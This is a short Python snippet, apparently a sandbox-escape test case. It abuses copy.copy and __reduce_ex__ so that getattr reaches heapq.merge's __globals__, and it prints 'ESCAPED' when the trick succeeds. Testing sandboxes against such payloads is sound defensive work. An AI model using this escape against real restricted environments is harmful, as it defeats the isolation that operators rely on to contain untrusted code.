# Copy rebuilds with getattr.
import copy, heapq
class P:
    def __reduce_ex__(self, v): return (getattr, (heapq.merge, "__globals__"))
print("ESCAPED", copy.copy(P()))
